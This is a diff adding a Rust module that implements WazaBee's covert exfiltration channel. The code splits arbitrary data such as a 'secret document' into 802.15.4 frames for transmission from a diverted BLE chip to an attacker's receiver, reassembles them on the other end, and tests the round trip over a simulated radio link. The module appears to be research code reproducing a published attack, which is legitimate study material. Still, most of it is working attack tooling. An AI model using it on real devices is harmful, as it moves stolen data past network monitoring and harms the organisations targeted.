@@ -1,0 +1,381 @@
+//! Covert data exfiltration over the diverted channel.
+//!
+//! The paper's introduction motivates WazaBee with exactly this use case:
+//! *"exfiltrate data to an illegitimate remote receiver by means of a
+//! corrupted BLE object, by communicating through a wireless protocol that
+//! is not supposed to be monitored in the targeted environment."* This
+//! module implements that covert channel: arbitrary data chunked into
+//! 802.15.4 data frames transmitted by the WazaBee TX primitive, reassembled
+//! by any 802.15.4 receiver (or another diverted BLE chip).
+
+use wazabee_dot154::{MacFrame, Ppdu};
+
+use crate::error::WazaBeeError;
+
+/// Magic byte tagging exfiltration payloads.
+const EXFIL_MAGIC: u8 = 0xEF;
+
+/// Maximum data bytes per chunk: a PSDU is at most 127 bytes; the MAC
+/// header of our data frames is 9 bytes, the FCS 2, the chunk header 6.
+pub const MAX_CHUNK: usize = 110;
+
+/// One exfiltration chunk header + payload, as a MAC payload.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Chunk {
+    /// Stream identifier (distinguishes concurrent exfiltrations).
+    pub stream: u8,
+    /// Chunk index.
+    pub seq: u16,
+    /// Total number of chunks in the stream.
+    pub total: u16,
+    /// The data slice.
+    pub data: Vec<u8>,
+}
+
+impl Chunk {
+    /// Serialises to a MAC payload.
+    pub fn to_bytes(&self) -> Vec<u8> {
+        let mut out = Vec::with_capacity(6 + self.data.len());
+        out.push(EXFIL_MAGIC);
+        out.push(self.stream);
+        out.extend_from_slice(&self.seq.to_le_bytes());
+        out.extend_from_slice(&self.total.to_le_bytes());
+        out.extend_from_slice(&self.data);
+        out
+    }
+
+    /// Parses a MAC payload; `None` when it is not an exfiltration chunk.
+    pub fn from_bytes(bytes: &[u8]) -> Option<Chunk> {
+        if bytes.len() < 6 || bytes[0] != EXFIL_MAGIC {
+            return None;
+        }
+        Some(Chunk {
+            stream: bytes[1],
+            seq: u16::from_le_bytes([bytes[2], bytes[3]]),
+            total: u16::from_le_bytes([bytes[4], bytes[5]]),
+            data: bytes[6..].to_vec(),
+        })
+    }
+}
+
+/// Addressing configuration of the covert channel.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct ExfilConfig {
+    /// PAN id used for the covert frames (can mimic the victim network or
+    /// use an unrelated one).
+    pub pan: u16,
+    /// Source short address claimed by the exfiltrating device.
+    pub src: u16,
+    /// Destination short address of the attacker's receiver.
+    pub dest: u16,
+    /// Bytes of data per frame (≤ [`MAX_CHUNK`]).
+    pub chunk_size: usize,
+}
+
+impl Default for ExfilConfig {
+    fn default() -> Self {
+        ExfilConfig {
+            pan: 0x0E0F,
+            src: 0x0001,
+            dest: 0xE717,
+            chunk_size: 64,
+        }
+    }
+}
+
+/// Splits a byte stream into the PPDUs of one exfiltration stream.
+///
+/// # Errors
+///
+/// [`WazaBeeError::FrameTooLong`] when `chunk_size` exceeds [`MAX_CHUNK`] or
+/// the data needs more than 65535 chunks.
+pub fn exfil_frames(
+    data: &[u8],
+    stream: u8,
+    cfg: &ExfilConfig,
+) -> Result<Vec<Ppdu>, WazaBeeError> {
+    if cfg.chunk_size == 0 || cfg.chunk_size > MAX_CHUNK {
+        return Err(WazaBeeError::FrameTooLong {
+            len: cfg.chunk_size,
+            max: MAX_CHUNK,
+        });
+    }
+    let total = data.len().div_ceil(cfg.chunk_size).max(1);
+    if total > usize::from(u16::MAX) {
+        return Err(WazaBeeError::FrameTooLong {
+            len: total,
+            max: usize::from(u16::MAX),
+        });
+    }
+    let mut frames = Vec::with_capacity(total);
+    for (seq, piece) in data
+        .chunks(cfg.chunk_size)
+        .chain(std::iter::once([].as_slice()).take(usize::from(data.is_empty())))
+        .enumerate()
+    {
+        let chunk = Chunk {
+            stream,
+            seq: seq as u16,
+            total: total as u16,
+            data: piece.to_vec(),
+        };
+        let mac = MacFrame::data(cfg.pan, cfg.src, cfg.dest, seq as u8, chunk.to_bytes());
+        let ppdu = Ppdu::new(mac.to_psdu()).map_err(|p| WazaBeeError::FrameTooLong {
+            len: p.len(),
+            max: 127,
+        })?;
+        frames.push(ppdu);
+    }
+    Ok(frames)
+}
+
+/// Reassembles exfiltration streams on the receiver side.
+///
+/// # Examples
+///
+/// ```
+/// use wazabee::exfil::{exfil_frames, ExfilCollector, ExfilConfig};
+/// use wazabee_dot154::MacFrame;
+///
+/// let cfg = ExfilConfig::default();
+/// let frames = exfil_frames(b"secret document", 7, &cfg).unwrap();
+/// let mut collector = ExfilCollector::new();
+/// let mut recovered = None;
+/// for f in &frames {
+///     let mac = MacFrame::from_psdu(f.psdu()).unwrap();
+///     recovered = collector.ingest(&mac).or(recovered);
+/// }
+/// assert_eq!(recovered.unwrap(), b"secret document");
+/// ```
+#[derive(Debug, Default)]
+pub struct ExfilCollector {
+    streams: std::collections::HashMap<u8, StreamState>,
+}
+
+#[derive(Debug)]
+struct StreamState {
+    total: u16,
+    chunks: std::collections::BTreeMap<u16, Vec<u8>>,
+}
+
+impl ExfilCollector {
+    /// Creates an empty collector.
+    pub fn new() -> Self {
+        ExfilCollector::default()
+    }
+
+    /// Number of streams currently being reassembled.
+    pub fn pending_streams(&self) -> usize {
+        self.streams.len()
+    }
+
+    /// Progress of a stream: `(received, total)` chunks.
+    pub fn progress(&self, stream: u8) -> Option<(usize, usize)> {
+        self.streams
+            .get(&stream)
+            .map(|s| (s.chunks.len(), usize::from(s.total)))
+    }
+
+    /// Feeds a received MAC frame; returns the reassembled data when the
+    /// frame completes its stream (the stream is then forgotten).
+    ///
+    /// Chunks with out-of-range metadata (zero total, sequence beyond total,
+    /// or data exceeding [`MAX_CHUNK`]) are dropped, which also bounds the
+    /// collector's memory to 256 streams × 65535 × [`MAX_CHUNK`] worst case.
+    pub fn ingest(&mut self, frame: &MacFrame) -> Option<Vec<u8>> {
+        let chunk = Chunk::from_bytes(&frame.payload)?;
+        if chunk.total == 0 || chunk.seq >= chunk.total || chunk.data.len() > MAX_CHUNK {
+            return None;
+        }
+        let state = self
+            .streams
+            .entry(chunk.stream)
+            .or_insert_with(|| StreamState {
+                total: chunk.total,
+                chunks: std::collections::BTreeMap::new(),
+            });
+        if state.total != chunk.total {
+            // Conflicting stream metadata: restart with the new shape.
+            state.total = chunk.total;
+            state.chunks.clear();
+        }
+        state.chunks.insert(chunk.seq, chunk.data);
+        if state.chunks.len() == usize::from(state.total) {
+            let state = self.streams.remove(&chunk.stream).expect("present");
+            Some(state.chunks.into_values().flatten().collect())
+        } else {
+            None
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn macs(frames: &[Ppdu]) -> Vec<MacFrame> {
+        frames
+            .iter()
+            .map(|f| MacFrame::from_psdu(f.psdu()).expect("valid"))
+            .collect()
+    }
+
+    #[test]
+    fn round_trip_multi_chunk() {
+        let data: Vec<u8> = (0..=255).cycle().take(500).collect();
+        let cfg = ExfilConfig::default();
+        let frames = exfil_frames(&data, 1, &cfg).unwrap();
+        assert_eq!(frames.len(), 8); // ceil(500/64)
+        let mut collector = ExfilCollector::new();
+        let mut out = None;
+        for m in macs(&frames) {
+            out = collector.ingest(&m).or(out);
+        }
+        assert_eq!(out.unwrap(), data);
+        assert_eq!(collector.pending_streams(), 0);
+    }
+
+    #[test]
+    fn out_of_order_and_duplicates_tolerated() {
+        let data = b"the quick brown fox jumps over the lazy dog".to_vec();
+        let cfg = ExfilConfig {
+            chunk_size: 8,
+            ..ExfilConfig::default()
+        };
+        let frames = macs(&exfil_frames(&data, 2, &cfg).unwrap());
+        let mut collector = ExfilCollector::new();
+        let mut order: Vec<usize> = (0..frames.len()).rev().collect();
+        order.push(0); // duplicate
+        let mut out = None;
+        for &k in &order {
+            out = collector.ingest(&frames[k]).or(out);
+        }
+        assert_eq!(out.unwrap(), data);
+    }
+
+    #[test]
+    fn missing_chunk_keeps_stream_pending() {
+        let data = vec![7u8; 200];
+        let cfg = ExfilConfig {
+            chunk_size: 50,
+            ..ExfilConfig::default()
+        };
+        let frames = macs(&exfil_frames(&data, 3, &cfg).unwrap());
+        let mut collector = ExfilCollector::new();
+        for (k, m) in frames.iter().enumerate() {
+            if k != 2 {
+                assert!(collector.ingest(m).is_none());
+            }
+        }
+        assert_eq!(collector.progress(3), Some((3, 4)));
+        // The late chunk completes it.
+        assert_eq!(collector.ingest(&frames[2]).unwrap(), data);
+    }
+
+    #[test]
+    fn concurrent_streams_do_not_mix() {
+        let a = vec![0xAA; 100];
+        let b = vec![0xBB; 100];
+        let cfg = ExfilConfig {
+            chunk_size: 40,
+            ..ExfilConfig::default()
+        };
+        let fa = macs(&exfil_frames(&a, 10, &cfg).unwrap());
+        let fb = macs(&exfil_frames(&b, 11, &cfg).unwrap());
+        let mut collector = ExfilCollector::new();
+        let mut results = Vec::new();
+        for (x, y) in fa.iter().zip(&fb) {
+            if let Some(d) = collector.ingest(x) {
+                results.push(d);
+            }
+            if let Some(d) = collector.ingest(y) {
+                results.push(d);
+            }
+        }
+        assert_eq!(results, vec![a, b]);
+    }
+
+    #[test]
+    fn oversized_chunk_data_dropped() {
+        let mut collector = ExfilCollector::new();
+        let huge = Chunk {
+            stream: 1,
+            seq: 0,
+            total: 1,
+            data: vec![0; MAX_CHUNK + 1],
+        };
+        let frame = MacFrame::data(1, 2, 3, 4, huge.to_bytes());
+        assert!(collector.ingest(&frame).is_none());
+        assert_eq!(collector.pending_streams(), 0);
+    }
+
+    #[test]
+    fn non_exfil_frames_ignored() {
+        let mut collector = ExfilCollector::new();
+        let plain = MacFrame::data(1, 2, 3, 4, vec![0x01, 0x02]);
+        assert!(collector.ingest(&plain).is_none());
+        assert_eq!(collector.pending_streams(), 0);
+    }
+
+    #[test]
+    fn empty_data_is_one_empty_chunk() {
+        let frames = macs(&exfil_frames(&[], 5, &ExfilConfig::default()).unwrap());
+        assert_eq!(frames.len(), 1);
+        let mut collector = ExfilCollector::new();
+        assert_eq!(collector.ingest(&frames[0]).unwrap(), Vec::<u8>::new());
+    }
+
+    #[test]
+    fn oversized_chunk_size_rejected() {
+        let cfg = ExfilConfig {
+            chunk_size: MAX_CHUNK + 1,
+            ..ExfilConfig::default()
+        };
+        assert!(matches!(
+            exfil_frames(&[1], 0, &cfg),
+            Err(WazaBeeError::FrameTooLong { .. })
+        ));
+        let zero = ExfilConfig {
+            chunk_size: 0,
+            ..ExfilConfig::default()
+        };
+        assert!(exfil_frames(&[1], 0, &zero).is_err());
+    }
+
+    #[test]
+    fn max_chunk_fits_in_a_ppdu() {
+        let cfg = ExfilConfig {
+            chunk_size: MAX_CHUNK,
+            ..ExfilConfig::default()
+        };
+        let frames = exfil_frames(&vec![9; MAX_CHUNK], 0, &cfg).unwrap();
+        assert_eq!(frames.len(), 1);
+        assert!(frames[0].psdu().len() <= 127);
+    }
+
+    #[test]
+    fn full_phy_round_trip() {
+        // The covert channel over the air: WazaBee TX → 802.15.4 RX.
+        use crate::WazaBeeTx;
+        use wazabee_ble::{BleModem, BlePhy};
+        use wazabee_dot154::Dot154Modem;
+
+        let secret = b"exfiltrated over a protocol nobody monitors".to_vec();
+        let cfg = ExfilConfig {
+            chunk_size: 16,
+            ..ExfilConfig::default()
+        };
+        let tx = WazaBeeTx::new(BleModem::new(BlePhy::Le2M, 8)).unwrap();
+        let rx = Dot154Modem::new(8);
+        let mut collector = ExfilCollector::new();
+        let mut out = None;
+        for ppdu in exfil_frames(&secret, 9, &cfg).unwrap() {
+            let air = tx.transmit(&ppdu);
+            let got = rx.receive(&air).expect("frame lost");
+            assert!(got.fcs_ok());
+            let mac = MacFrame::from_psdu(&got.psdu).unwrap();
+            out = collector.ingest(&mac).or(out);
+        }
+        assert_eq!(out.unwrap(), secret);
+    }
+}
